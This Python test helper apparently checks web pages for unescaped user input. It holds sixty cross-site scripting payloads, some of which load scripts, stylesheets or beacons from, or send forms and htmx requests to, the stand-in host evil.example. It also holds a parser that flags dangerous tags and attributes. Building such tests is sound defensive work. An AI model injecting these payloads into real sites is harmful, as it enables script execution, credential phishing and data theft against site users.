"""Sixty texts that would run, lead elsewhere or break out where a page forgot to escape them, and what gives them away.

None is longer than the shortest field that people fill in; whatever they load or lead to is at EVIL.
"""

from html.parser import HTMLParser

EVIL = "evil.example"
SHORTEST_FIELD = 60

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\t>alert(1)</script\t>",
    "<script/x>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=//evil.example/beacon>",
    "<img src=x onerror=&#97;lert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=//evil.example>Your invitation</a>",
    "<a href=data:text/html,x>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=position:fixed>x</p>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '" style="background:url(//evil.example)',
    '" hx-get="//evil.example/" hx-trigger="load',
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "%3Cscript%3Ealert(1)%3C/script%3E<b onclick=alert(1)>",
    "&lt;script&gt;<i onclick=alert(1)>",
    "{{ 7|add:7 }}{% debug %}<u onclick=alert(1)>",
)

ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc", "hx-get", "hx-post"}
NEVER = {"style", "base", "object", "embed", "iframe", "math", "marquee"}


class _Harm(HTMLParser):
    def __init__(self, text: str, allowed: frozenset[str]):
        super().__init__()
        self.found: set[str] = set()
        self._allowed = allowed
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if tag in NEVER - self._allowed or (tag == "script" and not _is_ours(values.get("src", ""))):
            self.found.add(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.found.add("<meta http-equiv>")
        for name, value in values.items():
            if name.startswith("on") or (name == "style" and "style" not in self._allowed):
                self.found.add(f"{tag} {name}")
            elif name in ADDRESSES and (EVIL in value.partition("?")[0] or _has_a_scheme_of_its_own(value)):
                self.found.add(f"{tag} {name}={value[:60]}")


def _is_ours(script: str) -> bool:
    return script.startswith("/") and not script.startswith("//")


def _has_a_scheme_of_its_own(address: str) -> bool:
    scheme, colon, _rest = address.strip().lower().partition(":")
    # A page asked for by a relative address, whose query may hold anything.
    if not colon or not scheme.replace("+", "").replace("-", "").isalnum():
        return False
    return scheme not in {"http", "https", "mailto", "webcal"}


def harm_in(text: str, *allowed: str) -> set[str]:
    """What in a page would run, look as nobody wanted or lead elsewhere; `allowed` are tags that it may have."""
    return _Harm(text, frozenset(allowed)).found


def unescaped_in(text: str) -> list[str]:
    """Payloads that stand in the text as they were typed."""
    return [payload for payload in PAYLOADS if payload in text]


def filled(length: int, turn: int) -> str:
    """As many payloads as a field of this length holds, beginning with the one whose turn it is."""
    text = ""
    for step in range(len(PAYLOADS)):
        payload = PAYLOADS[(turn + step) % len(PAYLOADS)]
        if len(text) + len(payload) > length:
            break
        text += payload
    return text
